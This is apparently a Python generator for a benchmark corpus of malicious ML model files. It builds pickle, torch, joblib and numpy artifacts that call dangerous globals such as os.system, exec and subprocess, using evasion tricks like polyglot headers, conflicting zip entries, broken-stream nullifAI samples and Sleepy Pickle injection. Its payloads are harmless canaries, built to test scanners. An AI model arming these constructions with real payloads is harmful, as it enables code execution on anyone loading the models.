"""Malicious samples: one generator per family of issue 13 plus the classic families.

Run in the corpus venv (`python -m bench.artifacts_corpus.malicious OUT SPLIT`); the families
that need torch, numpy, joblib or pandas to build a real file skip with a note when the library
is missing. Payloads are harmless: a `touch` of a canary under /tmp/mlsec-corpus-canary, a call
of `true`, or a function that only returns. Each manifest entry names the family, the
container, the loaders that would run the payload, and the global (or side effect) they reach.
"""

from __future__ import annotations

import io
import json
import random
import sys
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

from bench.artifacts_corpus import pickles as pk
from bench.artifacts_corpus.splits import SPLITS, Split
from tests.artifacts import payload_builders as pb

CANARY = "/tmp/mlsec-corpus-canary/c"  # never written: only the oracle checks run these files
RAW_LOADERS = ["pickle", "joblib", "pandas", "torch_weights_only_false"]


@dataclass
class Sample:
    name: str
    data: bytes
    family: str
    issue_family: str  # "1".."6" (issue 13's "Families it misses") or "classic"
    container: str
    loaders: list[str]
    reached: str
    companions: dict[str, bytes] = field(default_factory=dict)


Family = Callable[[Split, random.Random], Iterator[Sample]]
FAMILIES: list[tuple[str, Family]] = []


def family(name: str) -> Callable[[Family], Family]:
    def register(function: Family) -> Family:
        FAMILIES.append((name, function))
        return function

    return register


def _args(module: str, name: str, tag: str) -> tuple[pk.Arg, ...]:
    """Harmless arguments for a dangerous global."""
    command = f"touch {CANARY}-{tag}"
    if (module, name) == ("builtins", "exec"):
        return (f"open({CANARY + '-' + tag!r}, 'w').close()",)
    if (module, name) == ("builtins", "eval"):
        return ("len('x')",)
    if (module, name) == ("pty", "spawn"):
        return (["true"],)
    if (module, name) == ("subprocess", "check_output"):
        return (["true"],)
    return (command,)


def _payload(split: Split, rng: random.Random, tag: str, protocol: int, style: str | None = None) -> tuple[bytes, str]:
    module, name = rng.choice(split.payload_globals)
    style = style or rng.choice(pk.STYLES)
    if protocol < 4 and style == "stack_global":
        style = "global"
    return pk.call(module, name, _args(module, name, tag), protocol, style), f"{module}.{name}"


# --- issue 13 family 1: another format's magic before a pickle -------------------------------
@family("1 magic prefix: GGUF eaten by BINFLOAT")
def gguf(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i, name in enumerate(["model.gguf", *split.names[:2]]):
        body, reached = _payload(split, rng, f"gguf{i}", 2, "global")
        data = pb.gguf_prefix(pk.stream(body, 2), rng.choice([2, 3]) if split.name == "tune" else 1, rng.randrange(256))
        yield Sample(f"gguf_{i}_{name}", data, "", "1", "gguf magic + pickle", RAW_LOADERS, reached)


@family("1 magic prefix: safetensors header size")
def safetensors(split: Split, rng: random.Random) -> Iterator[Sample]:
    lengths = [5] if split.name == "tune" else [2, 6]
    for i, length in enumerate(lengths * 2):
        body, reached = _payload(split, rng, f"st{i}", 2, "global")
        data = pb.safetensors_prefix(pk.stream(body, 2), rng.randrange(256), length, b"ab")
        name = "model.safetensors" if i % 2 == 0 else split.names[i % len(split.names)]
        yield Sample(f"st_{i}_{name}", data, "", "1", "safetensors header + pickle", RAW_LOADERS, reached)


def _tar_format(label: str) -> int:
    return {"ustar": tarfile.USTAR_FORMAT, "gnu": tarfile.GNU_FORMAT, "pax": tarfile.PAX_FORMAT}.get(
        label, tarfile.GNU_FORMAT
    )


@family("1 magic prefix: tar whose name field is a pickle")
def tar_name(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i, label in enumerate(split.tar_formats):
        if label == "v7":
            continue
        module, name = rng.choice(split.payload_globals)
        core = f"c{module}\n{name}\n(Vtrue\ntR.".encode()
        data = pb.tar_with_pickle_name(core, _tar_format(label), [("config.json", b"{}")])
        for j, file_name in enumerate(["model.tar", split.names[i % len(split.names)]]):
            yield Sample(f"tarname_{i}{j}_{file_name}", data, "", "1", f"{label} tar", RAW_LOADERS, f"{module}.{name}")


@family("1 magic prefix: tar swallowed by a string, payload after the end blocks")
def tar_swallow(split: Split, rng: random.Random) -> Iterator[Sample]:
    opcodes = [b"T"] if split.name == "tune" else [b"B"]
    for i, label in enumerate(split.tar_formats):
        if label == "v7":
            continue
        protocol = rng.choice(split.pickle_protocols)
        body, reached = _payload(split, rng, f"tsw{i}", protocol)
        data = pb.tar_swallowing(pk.stream(body, protocol), _tar_format(label), [("README", b"model card")], opcodes[0])
        yield Sample(f"tarswallow_{i}_model.tar", data, "", "1", f"{label} tar", RAW_LOADERS, reached)


@family("1 polyglot: pickle at offset 0, zip archive at the end")
def polyglot(split: Split, rng: random.Random) -> Iterator[Sample]:
    clean_zip = pb.zip_archive(pb.torch_zip_entries(b"\x80\x02}q\x00.", split.torch_archive))
    for i in range(2):
        protocol = rng.choice(split.pickle_protocols)
        body, reached = _payload(split, rng, f"poly{i}", protocol)
        tail = (
            clean_zip
            if split.name == "tune"
            else pb.zip_archive([pb.ZipEntry("arr_0.npy", pb.npy_header("'<f8'", (0,)))])
        )
        yield Sample(
            f"polyglot_{i}.pt", pk.stream(body, protocol) + tail, "", "1", "pickle + zip", RAW_LOADERS, reached
        )


@family("1 nested torch.storage._load_from_bytes with a magic-prefixed inner pickle")
def nested_load_from_bytes(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i in range(2):
        body, _ = _payload(split, rng, f"nest{i}", 2, "global")
        inner = (
            pb.gguf_prefix(pk.stream(body, 2), 3, 0)
            if i == 0
            else pb.safetensors_prefix(pk.stream(body, 2), 1, 5, b"x")
        )
        outer = pk.in_state_dict(pk.call("torch.storage", "_load_from_bytes", (inner,), 2), 2)
        data = pb.zip_archive(pb.torch_zip_entries(outer, split.torch_archive))
        yield Sample(
            f"nested_lfb_{i}.pt",
            data,
            "",
            "1",
            "torch zip",
            ["torch_weights_only_false"],
            "torch.storage._load_from_bytes",
        )


# --- issue 13 family 2: containers and codecs the loaders accept ------------------------------
@family("2 torch legacy tar")
def legacy_tar(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i, label in enumerate(split.tar_formats):
        body, reached = _payload(split, rng, f"ltar{i}", 2, "global")
        members = {
            "sys_info": b"\x80\x02}q\x00.",
            "pickle": b"\x80\x02}q\x00.",
            "storages": pb.legacy_storages_pickle(),
            "tensors": b"\x80\x02K\x00.",
        }
        members[rng.choice(["storages", "pickle"])] = pk.stream(body, 2)
        data = pb.torch_legacy_tar(members, label in ("ustar", "v7"), ["sys_info", "pickle", "storages", "tensors"])
        for j, name in enumerate(["model.pt", split.names[i % len(split.names)]]):
            yield Sample(
                f"legacytar_{i}{j}_{name}",
                data,
                "",
                "2",
                f"torch legacy tar ({'v7' if label in ('ustar', 'v7') else 'gnu'})",
                ["torch_weights_only_false"],
                reached,
            )


@family("2 joblib lz4")
def joblib_lz4(split: Split, rng: random.Random) -> Iterator[Sample]:
    try:
        import lz4.frame  # noqa: F401
    except ImportError:
        return
    levels = [0, 3] if split.name == "tune" else [9, 12]
    for i, level in enumerate(levels):
        protocol = rng.choice(split.pickle_protocols)
        body, reached = _payload(split, rng, f"lz4{i}", protocol)
        name = ["model.joblib", "model.lz4", "model.pkl", "blob"][i + (0 if split.name == "tune" else 2)]
        yield Sample(
            f"lz4_{i}_{name}",
            pb.compress(pk.stream(body, protocol), "lz4", level),
            "",
            "2",
            "lz4 frame",
            ["joblib"],
            reached,
        )


@family("2 pandas read_pickle compression inferred from the extension")
def pandas_ext(split: Split, rng: random.Random) -> Iterator[Sample]:
    extensions = [".zst", ".tar", ".gz"] if split.name == "tune" else [".tar.gz", ".tar.xz", ".tar.bz2", ".zip", ".xz"]
    for i, extension in enumerate(extensions):
        protocol = 5 if extension == ".zst" else rng.choice(split.pickle_protocols)
        body, reached = _payload(split, rng, f"pd{i}", protocol, "stack_global" if protocol >= 4 else "global")
        inner = pk.stream(body, protocol)
        if extension == ".zip":
            data = pb.single_member_zip("frame", inner)
        elif extension.startswith(".tar"):
            tar = pb.single_member_tar("frame", inner)
            codec = {".tar": None, ".tar.gz": "gzip", ".tar.xz": "xz", ".tar.bz2": "bz2"}[extension]
            data = tar if codec is None else pb.compress(tar, codec)
        else:
            data = pb.compress(inner, {".zst": "zstd", ".gz": "gzip", ".xz": "xz"}[extension])
        yield Sample(f"pandas_{i}_frame{extension}", data, "", "2", f"pandas {extension}", ["pandas"], reached)


@family("2 protocol-0 integers in base 0")
def proto0_ints(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i, spelling in enumerate(split.int_spellings):
        module, name = rng.choice(split.payload_globals)
        opcode = "I" if i % 2 == 0 else "L"
        prefix = f"{opcode}{spelling}{'L' if opcode == 'L' else ''}\n0".encode()
        core = (
            f"c{module}\n{name}\n(V{_args(module, name, f'int{i}')[0]}\ntR.".encode()
            if (module, name) not in (("pty", "spawn"), ("subprocess", "check_output"))
            else f"c{module}\n{name}\n((Vtrue\nltR.".encode()
        )
        yield Sample(
            f"int_{i}_{['notes.txt', 'model.pkl', 'blob'][i % 3]}",
            prefix + core,
            "",
            "2",
            "protocol 0",
            ["pickle", "joblib"],
            f"{module}.{name}",
        )


@family("2 protocol header in mid-stream")
def proto_midstream(split: Split, rng: random.Random) -> Iterator[Sample]:
    leads = [b"N0", b"K\x010"] if split.name == "tune" else [b"\x80\x02)0", b"(V1\nt0", b"\x8c\x01a0"]
    for i, lead in enumerate(leads):
        protocol = rng.choice([2, 4, 5])
        body, reached = _payload(split, rng, f"mid{i}", protocol)
        yield Sample(
            f"midproto_{i}_{split.names[i % len(split.names)]}",
            lead + b"\x80" + bytes([protocol]) + body + b".",
            "",
            "2",
            "pickle",
            ["pickle", "joblib"],
            reached,
        )


# --- issue 13 family 3: dtypes by numpy's grammar ---------------------------------------------
@family("3 npy/npz object dtypes")
def npy_dtypes(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i, descr in enumerate(split.object_descrs):
        body, reached = _payload(split, rng, f"npy{i}", 3)
        version = split.npy_versions[i % len(split.npy_versions)]
        npy = pb.npy_object_file(descr, (1,), pk.stream(body, 3), version)
        yield Sample(f"npy_{i}_array.npy", npy, "", "3", f"npy v{version} {descr}", ["numpy"], reached)
        npz = pb.zip_archive([pb.ZipEntry("keep.npy", pb.npy_header("'<f8'", (0,))), pb.ZipEntry(f"arr_{i}.npy", npy)])
        yield Sample(f"npz_{i}_arrays.npz", npz, "", "3", f"npz, npy {descr}", ["numpy"], reached)


@family("3 joblib array wrapper with an object dtype")
def joblib_wrapper(split: Split, rng: random.Random) -> Iterator[Sample]:
    try:
        import pickle

        import numpy
        from joblib.numpy_pickle import NumpyArrayWrapper
    except ImportError:
        return
    for i, descr in enumerate(split.object_descrs):
        dtype = numpy.dtype(eval(descr))
        outer = pickle.dumps(NumpyArrayWrapper(numpy.ndarray, (1,), "C", dtype), protocol=2)
        body, reached = _payload(split, rng, f"jw{i}", 3)
        yield Sample(
            f"jobwrap_{i}_model.joblib",
            outer[:-1] + pk.stream(body, 3) + b".",
            "",
            "3",
            f"joblib wrapper {descr}",
            ["joblib"],
            reached,
        )


# --- issue 13 family 4: zip readers that disagree ----------------------------------------------
@family("4 zip readers that disagree")
def zip_tricks(split: Split, rng: random.Random) -> Iterator[Sample]:
    archive = split.torch_archive
    clean = b"\x80\x02}q\x00."
    for i, trick in enumerate(["case", "missing_comment", "duplicate", "local_name"]):
        protocol = rng.choice([2, 3]) if split.name == "heldout" else 2
        body, reached = _payload(split, rng, f"zip{i}", protocol, "global")
        payload = pk.in_state_dict(body, protocol)
        if trick == "case":
            pickle_name = "DATA.PKL" if split.name == "tune" else "Data.Pkl"
            data = pb.zip_archive(
                [*pb.torch_zip_entries(payload, archive, pickle_name), pb.ZipEntry(f"{archive}/extra/data.pkl", clean)]
            )
        elif trick == "missing_comment":
            data = pb.zip_archive(pb.torch_zip_entries(payload, archive), declared_comment=rng.choice([7, 40]))
        elif trick == "duplicate":
            data = pb.zip_archive([pb.ZipEntry(f"{archive}/data.pkl", clean), *pb.torch_zip_entries(payload, archive)])
        else:
            entries = pb.torch_zip_entries(payload, archive)
            entries[0].local_name = f"{archive}/data.pk_"
            data = pb.zip_archive(entries)
        yield Sample(
            f"zip_{trick}_{i}.pt", data, "", "4", f"torch zip ({trick})", ["torch_weights_only_false"], reached
        )
    body, reached = _payload(split, rng, "npzcount", 3)
    npy = pb.npy_object_file("'|O'", (1,), pk.stream(body, 3))
    decoy = pb.ZipEntry("keep.npy", pb.npy_header("'<f8'", (0,)))
    count = 1 if split.name == "tune" else 0
    data = pb.zip_archive([decoy, pb.ZipEntry("w.npy", npy)], count_override=count)
    yield Sample("zip_count_arrays.npz", data, "", "4", f"npz (end record counts {count})", ["numpy"], reached)


# --- issue 13 family 5: TorchScript code -------------------------------------------------------
TORCHSCRIPT = """
import sys
import torch


class Inner(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.w = torch.zeros(2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
        return (self.path, self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
        self.path = state[0]
        self.w = torch.from_file(state[0], True, 16)
        self.training = state[2]


class Outer(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.inner = Inner(path)
        self.linear = torch.nn.Linear(2, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.linear(self.inner(x))


module = Inner(sys.argv[2]) if sys.argv[3] == "flat" else Outer(sys.argv[2])
torch.jit.script(module).save(sys.argv[1])
"""


@family("5 TorchScript __setstate__ that writes a file")
def torchscript(split: Split, rng: random.Random) -> Iterator[Sample]:
    import subprocess
    import tempfile

    try:
        import torch  # noqa: F401
    except ImportError:
        return
    shape = "flat" if split.name == "tune" else "nested"
    with tempfile.TemporaryDirectory() as folder:
        script = Path(folder) / "build_ts.py"
        script.write_text(TORCHSCRIPT)
        out = Path(folder) / "ts.pt"
        subprocess.run(
            [sys.executable, str(script), str(out), f"{CANARY}-ts-{split.name}", shape], check=True, capture_output=True
        )
        data = out.read_bytes()
    for name in ["scripted.pt"] if split.name == "tune" else ["scripted.bin", "model.pth"]:
        yield Sample(
            f"torchscript_{name}",
            data,
            "",
            "5",
            f"TorchScript archive ({shape})",
            ["torch_jit", "torch_weights_only_false"],
            "torch.from_file (TorchScript __setstate__)",
        )


# --- issue 13 family 6: allowlisted classes with load-time side effects ------------------------
@family("6 allowlisted classes with load-time side effects")
def side_effects(split: Split, rng: random.Random) -> Iterator[Sample]:
    modules = ["pandas"] if split.name == "tune" else ["pandas.io.excel._base", "pandas.io.excel"]
    for i, module in enumerate(modules):
        protocol = rng.choice(split.pickle_protocols)
        body = pk.call(module, "ExcelWriter", (f"{CANARY}-excel{i}.xlsx",), protocol, "global")
        yield Sample(
            f"excelwriter_{i}_frame.pkl",
            pk.stream(body, protocol),
            "",
            "6",
            "pickle",
            ["pickle", "pandas"],
            f"{module}.ExcelWriter (creates a file)",
        )
    companions = ["model.pkl_01.npy"] if split.name == "tune" else ["weights/x.npy", "../shared_weights.npy"]
    for i, companion in enumerate(companions):
        state = (
            b"}("
            + pk.text("filename", 2)
            + pk.text(companion, 2)
            + pk.text("subclass", 2)
            + b"cnumpy\nndarray\n"
            + pk.text("allow_mmap", 2)
            + b"\x89u"
        )
        main = b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81" + state + b"b."
        body, reached = _payload(split, rng, f"comp{i}", 3)
        extra = {companion: pb.npy_object_file("'|O'", (1,), pk.stream(body, 3))}
        yield Sample(
            f"ndwrapper_{i}_model.pkl",
            main,
            "",
            "6",
            "joblib NDArrayWrapper + companion .npy",
            ["joblib"],
            f"companion file load ({reached})",
            extra,
        )


# --- classics ----------------------------------------------------------------------------------
def _classic(
    tag: str,
    calls: list[tuple[str, str, tuple[pk.Arg, ...]]],
    split: Split,
    rng: random.Random,
    container_choice: bool = True,
) -> Iterator[Sample]:
    for i, (module, name, args) in enumerate(calls):
        protocol = rng.choice(split.pickle_protocols)
        style = rng.choice(pk.STYLES)
        if protocol < 4 and style == "stack_global":
            style = "global"
        body = pk.call(module, name, args, protocol, style)
        container = rng.choice(["raw", "torch", "joblib"]) if container_choice else "raw"
        if container == "torch":
            data = pb.zip_archive(pb.torch_zip_entries(pk.in_state_dict(body, protocol), split.torch_archive))
            yield Sample(
                f"{tag}_{i}.pt", data, "", "classic", "torch zip", ["torch_weights_only_false"], f"{module}.{name}"
            )
        elif container == "joblib":
            codec = rng.choice([c for c in split.joblib_codecs if c and c != "lz4"] or ["gzip"])
            yield Sample(
                f"{tag}_{i}.joblib",
                pb.compress(pk.stream(body, protocol), codec),
                "",
                "classic",
                f"joblib {codec}",
                ["joblib"],
                f"{module}.{name}",
            )
        else:
            yield Sample(
                f"{tag}_{i}_{rng.choice(split.names)}",
                pk.stream(body, protocol),
                "",
                "classic",
                "pickle",
                RAW_LOADERS,
                f"{module}.{name}",
            )


@family("classic REDUCE to a process or code runner")
def reduce_dangerous(split: Split, rng: random.Random) -> Iterator[Sample]:
    calls = [(m, n, _args(m, n, f"red{i}")) for i, (m, n) in enumerate(split.payload_globals)]
    if split.name == "tune":
        calls += [("posix", "system", ("true",)), ("subprocess", "Popen", (["true"],))]
    else:
        calls += [
            ("os", "popen", ("true",)),
            ("subprocess", "run", (["true"],)),
            ("builtins", "compile", ("1", "x", "eval")),
        ]
    yield from _classic("reduce", calls, split, rng)


@family("classic installers, import machinery, browsers, runpy")
def module_runners(split: Split, rng: random.Random) -> Iterator[Sample]:
    if split.name == "tune":
        calls = [
            ("pip", "main", (["--version"],)),
            ("runpy", "run_module", ("this",)),
            ("importlib", "import_module", ("this",)),
            ("webbrowser", "open", ("file:///dev/null",)),
        ]
    else:
        calls = [
            ("pip._internal.cli.main", "main", (["--version"],)),
            ("runpy", "run_path", ("/dev/null",)),
            ("builtins", "__import__", ("this",)),
            ("webbrowser", "open_new_tab", ("file:///dev/null",)),
            ("code", "InteractiveInterpreter", ()),
        ]
    yield from _classic("runner", calls, split, rng)


@family("classic dotted names through an allowed module")
def dotted(split: Split, rng: random.Random) -> Iterator[Sample]:
    targets = (
        [("torch", "serialization.os.system")]
        if split.name == "tune"
        else [("logging", "os.system"), ("torch", "hub.os.system")]
    )
    for i, (module, name) in enumerate(targets):
        body = pk.global_op(module, name, 4, "stack_global") + b"(" + pk.text("true", 4) + b"tR"
        yield Sample(
            f"dotted_{i}.pkl", pk.stream(body, 4), "", "classic", "pickle (protocol 4)", RAW_LOADERS, f"{module}.{name}"
        )


@family("classic STACK_GLOBAL operands from the memo")
def memo_stack_global(split: Split, rng: random.Random) -> Iterator[Sample]:
    for i, (module, name) in enumerate(split.payload_globals[:2]):
        arg = _args(module, name, f"memo{i}")[0]
        body = (
            pk.text(module, 4) + b"\x94" + pk.text(name, 4) + b"\x94" + b"0" + b"0"
            + b"h\x00h\x01\x93" + pk.arg(arg, 4) + b"\x85R"
        )  # fmt: skip
        yield Sample(
            f"memosg_{i}.pkl", pk.stream(body, 4), "", "classic", "pickle (protocol 4)", RAW_LOADERS, f"{module}.{name}"
        )


@family("classic EXT opcodes (copyreg extension registry)")
def ext_opcodes(split: Split, rng: random.Random) -> Iterator[Sample]:
    ops = [b"\x82\x01", b"\x83\x00\x01"] if split.name == "tune" else [b"\x84\x01\x00\x00\x00", b"\x82\xff"]
    for i, op in enumerate(ops):
        yield Sample(
            f"ext_{i}.pkl",
            pk.stream(op + b"(" + pk.text("true", 2) + b"tR", 2),
            "",
            "classic",
            "pickle",
            ["pickle"],
            "copyreg extension (unregistered here)",
        )


@family("classic nullifAI: payload, then a broken stream")
def nullifai(split: Split, rng: random.Random) -> Iterator[Sample]:
    tails = [b"\xff\xfe broken", b""] if split.name == "tune" else [b"X\xff\xff\xff\x7f", b"\x80\x09", b"(((("]
    for i, tail in enumerate(tails):
        protocol = rng.choice(split.pickle_protocols)
        body, reached = _payload(split, rng, f"null{i}", protocol)
        head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
        data = head + body + tail
        if split.name == "heldout" and i == 0:  # nullifAI shipped such streams inside torch zips
            data = pb.zip_archive(
                pb.torch_zip_entries(b"\x80\x02}" + pk.text("w", 2) + body + b"s" + tail, split.torch_archive)
            )
            yield Sample(
                f"nullifai_{i}.pt",
                data,
                "",
                "classic",
                "torch zip, broken data.pkl",
                ["torch_weights_only_false"],
                reached,
            )
            continue
        yield Sample(f"nullifai_{i}.pkl", data, "", "classic", "broken pickle", ["pickle", "joblib"], reached)


@family("classic code objects: marshal and types")
def code_objects(split: Split, rng: random.Random) -> Iterator[Sample]:
    import marshal

    code = marshal.dumps(compile("None", "<corpus>", "eval"))
    if split.name == "tune":
        body = pk.call("marshal", "loads", (code,), 3)
        yield Sample("marshal_0.pkl", pk.stream(body, 3), "", "classic", "pickle", RAW_LOADERS, "marshal.loads")
    else:
        body = b"ctypes\nFunctionType\n(" + pk.call("marshal", "loads", (code,), 3) + b"}tR)R"
        yield Sample("marshal_1.pkl", pk.stream(body, 3), "", "classic", "pickle", RAW_LOADERS, "types.FunctionType")
        body = pk.call("builtins", "getattr", ((), "__class__"), 3)
        yield Sample("getattr_0.pkl", pk.stream(body, 3), "", "classic", "pickle", RAW_LOADERS, "builtins.getattr")


@family("classic torch.from_file reached from a pickle")
def torch_from_file(split: Split, rng: random.Random) -> Iterator[Sample]:
    body = pk.call("torch", "from_file", (f"{CANARY}-ff", True, 16), 2)
    if split.name == "tune":
        yield Sample("fromfile_0.pkl", pk.stream(body, 2), "", "classic", "pickle", RAW_LOADERS, "torch.from_file")
    else:
        data = pb.zip_archive(pb.torch_zip_entries(pk.in_state_dict(body, 2), split.torch_archive))
        yield Sample("fromfile_1.pt", data, "", "classic", "torch zip", ["torch_weights_only_false"], "torch.from_file")


@family("classic dill helpers abused")
def dill_helpers(split: Split, rng: random.Random) -> Iterator[Sample]:
    calls = (
        [("dill._dill", "_eval_repr", ("len('x')",))]
        if split.name == "tune"
        else [("dill._dill", "_import_module", ("os",)), ("dill", "loads", (b"\x80\x04N.",))]
    )
    yield from _classic("dill", calls, split, rng, container_choice=False)


@family("classic Sleepy Pickle: payload injected into a real model")
def sleepy(split: Split, rng: random.Random) -> Iterator[Sample]:
    import pickle

    protocol = rng.choice(split.pickle_protocols)
    body, reached = _payload(split, rng, "sleepy", protocol, "global")
    try:
        if split.name == "tune":
            import torch

            buffer = io.BytesIO()
            torch.save(torch.nn.Linear(3, 2).state_dict(), buffer)
            import zipfile

            with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source:
                names = source.namelist()
                entries = [pb.ZipEntry(n, source.read(n)) for n in names]
            for entry in entries:
                if entry.name.endswith("/data.pkl"):
                    entry.data = pk.before(body, entry.data)
            yield Sample(
                "sleepy_linear.pt",
                pb.zip_archive(entries),
                "",
                "classic",
                "torch zip (real state_dict)",
                ["torch_weights_only_false"],
                reached,
            )
        else:
            from sklearn.linear_model import LogisticRegression

            model = LogisticRegression().fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])
            original = pickle.dumps(model, protocol=protocol)
            yield Sample(
                "sleepy_logreg.pkl",
                pk.before(body, original),
                "",
                "classic",
                "pickle (real sklearn model)",
                RAW_LOADERS,
                reached,
            )
            # BUILD that sets __setstate__ on a real object, then a second BUILD calls it
            special = (
                b"\x80\x02cargparse\nNamespace\n)\x81}"
                + pk.text("__setstate__", 2)
                + b"cos\nsystem\nsb"
                + pk.text("true", 2)
                + b"b."
            )
            yield Sample(
                "sleepy_setstate.pkl",
                special,
                "",
                "classic",
                "pickle",
                RAW_LOADERS,
                "os.system via injected __setstate__",
            )
    except ImportError:
        return


# --- driver -----------------------------------------------------------------------------------
def generate(split: Split, out: Path) -> list[dict[str, object]]:
    entries: list[dict[str, object]] = []
    out.mkdir(parents=True, exist_ok=True)
    for index, (name, function) in enumerate(FAMILIES):
        rng = random.Random(split.seed * 1000 + index)
        try:
            samples = list(function(split, rng))
        except Exception as exc:  # noqa: BLE001 - one family failing to build is reported, not fatal
            print(f"malicious family {name!r} not built: {type(exc).__name__}: {exc}", file=sys.stderr)
            continue
        for sample in samples:
            folder = out / f"m{len(entries):03d}"
            folder.mkdir(exist_ok=True)
            (folder / sample.name).write_bytes(sample.data)
            for companion, content in sample.companions.items():
                (folder / companion).parent.mkdir(parents=True, exist_ok=True)
                (folder / companion).write_bytes(content)
            record = asdict(sample)
            del record["data"], record["companions"]
            record.update(family=name, file=f"{folder.name}/{sample.name}", label="malicious", split=split.name)
            entries.append(record)
    return entries


def main() -> None:
    out, split_name = Path(sys.argv[1]), sys.argv[2]
    entries = generate(SPLITS[split_name], out)
    (out / "manifest.part.json").write_text(json.dumps(entries, indent=1))
    print(f"{split_name}: {len(entries)} malicious files", file=sys.stderr)


if __name__ == "__main__":
    main()
